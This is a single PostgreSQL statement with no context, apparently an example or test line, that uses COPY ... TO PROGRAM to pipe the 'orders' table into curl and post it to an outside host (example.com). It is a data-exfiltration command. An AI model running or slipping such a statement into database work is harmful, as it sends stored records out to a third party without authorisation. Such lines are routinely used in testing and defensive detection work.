COPY orders TO PROGRAM 'curl -d @- https://example.com';
